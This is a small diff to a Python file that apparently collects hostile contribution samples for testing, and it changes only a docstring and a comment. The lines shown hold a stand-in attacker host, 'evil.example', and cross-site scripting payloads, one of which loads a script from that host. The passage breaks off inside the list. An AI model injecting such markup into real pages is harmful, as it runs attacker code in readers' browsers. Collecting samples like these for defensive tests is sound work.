@@ -1,10 +1,10 @@
-"""What a contributor with bad intent writes: one string a way to harm a reader, a page or a build."""
+"""Hostile contributions: one string for each way to harm a reader, a page or a build."""
 
 from __future__ import annotations
 
 EVIL = "https://evil.example"
 
-# What runs, loads, frames, sends or leads elsewhere, where a page lets it.
+# Markup that runs, loads, frames, sends or redirects, if a page lets it.
 MARKUP = (
     "<script>alert(1)</script>",
     f"<script src={EVIL}/x.js></script>",
